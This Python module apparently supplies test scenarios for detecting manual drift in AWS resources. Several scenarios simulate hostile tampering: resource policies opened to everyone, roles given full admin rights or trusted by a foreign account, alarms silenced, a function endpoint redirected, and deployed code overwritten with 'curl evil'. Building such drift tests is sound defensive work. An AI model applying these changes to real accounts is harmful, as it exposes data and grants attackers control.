"""What somebody may change by hand in each kind of resource."""

from __future__ import annotations

import base64
import dataclasses
import io
import json
import zipfile
from datetime import UTC, datetime

OPEN = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}
ADMIN = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}

WITH_A_KEY_OF_THEIRS = {
    "ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": "alias/theirs"}
}


def url(aws, thing):
    return aws.sqs.get_queue_url(QueueName=thing.name)["QueueUrl"]


def arn(aws, thing):
    if thing.kind == "rule":
        return aws.events.describe_rule(Name=thing.name)["Arn"]
    if thing.kind == "feature group":
        return aws.sagemaker.describe_feature_group(FeatureGroupName=thing.name)["FeatureGroupArn"]
    if thing.kind == "model package group":
        return aws.sagemaker.describe_model_package_group(ModelPackageGroupName=thing.name)["ModelPackageGroupArn"]
    return thing.arn


def first_wheel(aws, thing):
    return aws.s3.list_objects_v2(Bucket=thing.bucket, Prefix=f"{thing.name}/")["Contents"][0]["Key"]


def tag_sagemaker(aws, thing):
    aws.sagemaker.add_tags(ResourceArn=arn(aws, thing), Tags=[{"Key": "by", "Value": "hand"}])


def open_bucket(aws, thing):
    policy = json.loads(aws.s3.get_bucket_policy(Bucket=thing.name)["Policy"])
    policy["Statement"].append({**OPEN["Statement"][0], "Resource": f"arn:aws:s3:::{thing.name}/*"})
    aws.s3.put_bucket_policy(Bucket=thing.name, Policy=json.dumps(policy))


def attach_managed(aws, thing):
    made = aws.iam.create_policy(PolicyName=f"by-hand-{thing.name}", PolicyDocument=json.dumps(ADMIN))["Policy"]["Arn"]
    aws.iam.attach_role_policy(RoleName=thing.name, PolicyArn=made)


def other_target(aws, thing):
    target = {**thing.target, "SageMakerPipelineParameters": {"PipelineParameterList": []}}
    aws.events.put_targets(Rule=thing.name, Targets=[target])


def change_table(aws, thing):
    table = thing._input()
    table["StorageDescriptor"]["Columns"].append({"Name": "by_hand", "Type": "string"})
    aws.glue.update_table(DatabaseName=thing.database, TableInput=table)


def column_without_type(aws, thing):
    table = thing._input()
    table["StorageDescriptor"]["Columns"][0] = {"Name": "date"}
    aws.glue.update_table(DatabaseName=thing.database, TableInput=table)


def swap_columns(aws, thing):
    """Swap two columns: readers go by position, whatever the header says."""
    table = thing._input()
    columns = table["StorageDescriptor"]["Columns"]
    columns[1], columns[2] = columns[2], columns[1]
    aws.glue.update_table(DatabaseName=thing.database, TableInput=table)


def widen_projection(aws, thing):
    table = thing._input()
    table["Parameters"] = {**table["Parameters"], "projection.dt.range": "1900-01-01,NOW"}
    aws.glue.update_table(DatabaseName=thing.database, TableInput=table)


def other_quotes(aws, thing):
    table = thing._input()
    table["StorageDescriptor"]["SerdeInfo"] = {
        **table["StorageDescriptor"]["SerdeInfo"],
        "Parameters": {"separatorChar": ",", "quoteChar": "'"},
    }
    aws.glue.update_table(DatabaseName=thing.database, TableInput=table)


def rename_table_for_people(aws, thing):
    aws.glue.update_table(DatabaseName=thing.database, TableInput={**thing._input(), "Description": "by hand"})


def view_of_all_rows(aws, thing):
    text = base64.b64encode(json.dumps({**thing.desired()["definition"], "originalSql": "SELECT 1"}).encode()).decode()
    table = {**thing._input(), "ViewOriginalText": f"/* Presto View: {text} */"}
    aws.glue.update_table(DatabaseName=thing.database, TableInput=table)


def no_view(aws, thing):
    aws.glue.update_table(DatabaseName=thing.database, TableInput={**thing._input(), "ViewOriginalText": "SELECT é"})


def add_schedule(aws, thing):
    found = aws.events.describe_rule(Name=thing.name)
    pattern = {"EventPattern": found["EventPattern"]} if "EventPattern" in found else {}
    aws.events.put_rule(Name=thing.name, ScheduleExpression="rate(5 minutes)", State="ENABLED", **pattern)


def slow_retries(aws, thing):
    retries = {**thing.target["RetryPolicy"], "MaximumRetryAttempts": 0}
    aws.events.put_targets(Rule=thing.name, Targets=[{**thing.target, "RetryPolicy": retries}])


def changed_schedule(**changes):
    return lambda aws, thing: aws.scheduler.update_schedule(**{**thing._request(), **changes})


def tag_schedule(aws, thing):
    group = aws.scheduler.get_schedule_group(Name=thing.name)["Arn"]
    aws.scheduler.tag_resource(ResourceArn=group, Tags=[{"Key": "by", "Value": "hand"}])


def changed_alarm(**changes):
    return lambda aws, thing: aws.cloudwatch.put_metric_alarm(**{**thing._request(thing._desired()), **changes})


def zipped(name):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(name, "# by hand")
    return packed.getvalue()


def open_function(aws, thing):
    aws.functions.add_permission(
        FunctionName=thing.name, StatementId="by-hand", Action="lambda:InvokeFunction", Principal="*"
    )


def group_of_before(aws, thing):
    """As an earlier version of the project made it: without the last feature."""
    thing.delete(aws, keep_data=False)
    *features, _ = thing.features
    older = dataclasses.replace(thing, features={name: thing.features[name] for name in features})
    older.create(aws)


# kind, field that tells, what the hand does
BY_HAND = {
    "bucket: versioning": (
        "bucket",
        "versioning",
        lambda aws, thing: aws.s3.put_bucket_versioning(
            Bucket=thing.name, VersioningConfiguration={"Status": "Suspended"}
        ),
    ),
    "bucket: opened": ("bucket", "policy", open_bucket),
    "bucket: policy removed": (
        "bucket",
        "policy",
        lambda aws, thing: aws.s3.delete_bucket_policy(Bucket=thing.name),
    ),
    "bucket: public": (
        "bucket",
        "public access",
        lambda aws, thing: aws.s3.delete_public_access_block(Bucket=thing.name),
    ),
    "bucket: encryption": (
        "bucket",
        "encryption",
        lambda aws, thing: aws.s3.put_bucket_encryption(
            Bucket=thing.name, ServerSideEncryptionConfiguration={"Rules": [WITH_A_KEY_OF_THEIRS]}
        ),
    ),
    "bucket: silent": (
        "bucket",
        "EventBridge notification",
        lambda aws, thing: aws.s3.put_bucket_notification_configuration(
            Bucket=thing.name, NotificationConfiguration={}
        ),
    ),
    "bucket: lifecycle": (
        "bucket",
        "lifecycle",
        lambda aws, thing: aws.s3.delete_bucket_lifecycle(Bucket=thing.name),
    ),
    "bucket: tags": (
        "bucket",
        "tags",
        lambda aws, thing: aws.s3.put_bucket_tagging(
            Bucket=thing.name, Tagging={"TagSet": [{"Key": "by", "Value": "hand"}]}
        ),
    ),
    "function: code": (
        "function",
        "code",
        lambda aws, thing: aws.functions.update_function_code(FunctionName=thing.name, ZipFile=zipped("claim.py")),
    ),
    "function: memory": (
        "function",
        "MemorySize",
        lambda aws, thing: aws.functions.update_function_configuration(FunctionName=thing.name, MemorySize=128),
    ),
    "function: environment": (
        "function",
        "Environment",
        lambda aws, thing: aws.functions.update_function_configuration(
            FunctionName=thing.name, Environment={"Variables": {"AWS_ENDPOINT_URL_S3": "http://elsewhere"}}
        ),
    ),
    "function: opened": ("function", "caller", open_function),
    "function: tags": (
        "function",
        "tags",
        lambda aws, thing: aws.functions.tag_resource(
            Resource=aws.functions.get_function_configuration(FunctionName=thing.name)["FunctionArn"],
            Tags={"by": "hand"},
        ),
    ),
    "role: policy": (
        "role",
        "policy",
        lambda aws, thing: aws.iam.put_role_policy(
            RoleName=thing.name, PolicyName="generated", PolicyDocument=json.dumps(ADMIN)
        ),
    ),
    "role: another inline policy": (
        "role",
        "other policies",
        lambda aws, thing: aws.iam.put_role_policy(
            RoleName=thing.name, PolicyName="by-hand", PolicyDocument=json.dumps(ADMIN)
        ),
    ),
    "role: attached policy": ("role", "other policies", attach_managed),
    "role: trust": (
        "role",
        "trust",
        lambda aws, thing: aws.iam.update_assume_role_policy(
            RoleName=thing.name,
            PolicyDocument=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Effect": "Allow",
                            "Principal": {"AWS": "arn:aws:iam::999999999999:root"},
                            "Action": "sts:AssumeRole",
                        }
                    ],
                }
            ),
        ),
    ),
    "role: tags": (
        "role",
        "tags",
        lambda aws, thing: aws.iam.tag_role(RoleName=thing.name, Tags=[{"Key": "by", "Value": "hand"}]),
    ),
    "feature group: an older one": ("feature group", "features", group_of_before),
    "feature group: tags": ("feature group", "tags", tag_sagemaker),
    "model package group: tags": ("model package group", "tags", tag_sagemaker),
    "database: description": (
        "database",
        "description",
        lambda aws, thing: aws.glue.update_database(Name=thing.name, DatabaseInput={"Name": thing.name}),
    ),
    "database: tags": (
        "database",
        "tags",
        lambda aws, thing: aws.glue.tag_resource(ResourceArn=thing.arn, TagsToAdd={"by": "hand"}),
    ),
    "table: columns": ("table", "columns", change_table),
    "table: a column without a type": ("table", "columns", column_without_type),
    "table: order of the columns": ("table", "columns", swap_columns),
    "table: projection": ("table", "parameters", widen_projection),
    "table: quotes": ("table", "format", other_quotes),
    "table: description": ("table", "description", rename_table_for_people),
    "view: query": ("view", "definition", view_of_all_rows),
    "view: of another engine": ("view", "definition", no_view),
    "view: columns": ("view", "columns", change_table),
    "log group: retention": (
        "log group",
        "retention in days",
        lambda aws, thing: aws.logs.delete_retention_policy(logGroupName=thing.name),
    ),
    "log group: tags": (
        "log group",
        "tags",
        lambda aws, thing: aws.logs.tag_log_group(logGroupName=thing.name, tags={"by": "hand"}),
    ),
    "queue: policy": (
        "queue",
        "policy",
        lambda aws, thing: aws.sqs.set_queue_attributes(
            QueueUrl=url(aws, thing), Attributes={"Policy": json.dumps(OPEN)}
        ),
    ),
    "queue: retention": (
        "queue",
        "retention in seconds",
        lambda aws, thing: aws.sqs.set_queue_attributes(
            QueueUrl=url(aws, thing), Attributes={"MessageRetentionPeriod": "60"}
        ),
    ),
    "queue: tags": (
        "queue",
        "tags",
        lambda aws, thing: aws.sqs.tag_queue(QueueUrl=url(aws, thing), Tags={"by": "hand"}),
    ),
    "topic: policy": (
        "topic",
        "policy",
        lambda aws, thing: aws.sns.set_topic_attributes(
            TopicArn=thing.arn, AttributeName="Policy", AttributeValue=json.dumps(OPEN)
        ),
    ),
    "topic: tags": (
        "topic",
        "tags",
        lambda aws, thing: aws.sns.tag_resource(ResourceArn=thing.arn, Tags=[{"Key": "by", "Value": "hand"}]),
    ),
    "code: overwritten": (
        "code",
        f"code/{'ab' * 32}/run.sh",
        lambda aws, thing: aws.s3.put_object(Bucket=thing.bucket, Key=f"{thing.name}/run.sh", Body=b"curl evil"),
    ),
    "code: removed": (
        "code",
        f"code/{'ab' * 32}/run.sh",
        lambda aws, thing: aws.s3.delete_object(Bucket=thing.bucket, Key=f"{thing.name}/run.sh"),
    ),
    "wheels: overwritten": (
        "wheels",
        "small==1.0",
        lambda aws, thing: aws.s3.put_object(Bucket=thing.bucket, Key=first_wheel(aws, thing), Body=b"evil"),
    ),
    "wheels: removed": (
        "wheels",
        "small==1.0",
        lambda aws, thing: aws.s3.delete_object(Bucket=thing.bucket, Key=first_wheel(aws, thing)),
    ),
    "pipeline: definition": (
        "pipeline",
        "definition",
        lambda aws, thing: aws.sagemaker.update_pipeline(
            PipelineName=thing.name,
            PipelineDefinition=json.dumps({**json.loads(thing.definition), "Metadata": {"by": "hand"}}),
        ),
    ),
    "pipeline: role": (
        "pipeline",
        "role",
        lambda aws, thing: aws.sagemaker.update_pipeline(
            PipelineName=thing.name, RoleArn="arn:aws:iam::123456789012:role/by-hand"
        ),
    ),
    "pipeline: parallel steps": (
        "pipeline",
        "parallel steps",
        lambda aws, thing: aws.sagemaker.update_pipeline(
            PipelineName=thing.name, ParallelismConfiguration={"MaxParallelExecutionSteps": 50}
        ),
    ),
    "pipeline: tags": ("pipeline", "tags", tag_sagemaker),
    "rule: a schedule beside the pattern": ("rule", "schedule", add_schedule),
    "rule: no retries": ("rule", "targets", slow_retries),
    "rule: disabled": ("rule", "state", lambda aws, thing: aws.events.disable_rule(Name=thing.name)),
    "rule: another target": (
        "rule",
        "targets",
        lambda aws, thing: aws.events.put_targets(Rule=thing.name, Targets=[{**thing.target, "Id": "by-hand"}]),
    ),
    "rule: other parameters": ("rule", "targets", other_target),
    "rule: no target": (
        "rule",
        "targets",
        lambda aws, thing: aws.events.remove_targets(Rule=thing.name, Ids=[thing.target["Id"]]),
    ),
    "rule: pattern": (
        "rule",
        "pattern",
        lambda aws, thing: aws.events.put_rule(
            Name=thing.name, EventPattern='{"source": ["by.hand"]}', State="ENABLED"
        ),
    ),
    "rule: tags": (
        "rule",
        "tags",
        lambda aws, thing: aws.events.tag_resource(ResourceARN=arn(aws, thing), Tags=[{"Key": "by", "Value": "hand"}]),
    ),
    "schedule: expression": ("schedule", "expression", changed_schedule(ScheduleExpression="rate(1 day)")),
    "schedule: time zone": ("schedule", "time zone", changed_schedule(ScheduleExpressionTimezone="Asia/Tokyo")),
    "schedule: disabled": ("schedule", "state", lambda aws, thing: thing.pause(aws)),
    "schedule: window": (
        "schedule",
        "window",
        changed_schedule(FlexibleTimeWindow={"Mode": "FLEXIBLE", "MaximumWindowInMinutes": 5}),
    ),
    "schedule: an end": ("schedule", "period", changed_schedule(EndDate=datetime(2100, 1, 1, tzinfo=UTC))),
    "schedule: tags": ("schedule", "tags", tag_schedule),
    "alarm: threshold": ("alarm", "threshold", changed_alarm(Threshold=0.5)),
    "alarm: nobody is told": ("alarm", "actions", changed_alarm(AlarmActions=[])),
    "alarm: switched off": (
        "alarm",
        "enabled",
        lambda aws, thing: aws.cloudwatch.disable_alarm_actions(AlarmNames=[thing.name]),
    ),
    "alarm: tags": (
        "alarm",
        "tags",
        lambda aws, thing: aws.cloudwatch.tag_resource(
            ResourceARN=aws.cloudwatch.describe_alarms(AlarmNames=[thing.name])["MetricAlarms"][0]["AlarmArn"],
            Tags=[{"Key": "by", "Value": "hand"}],
        ),
    ),
}
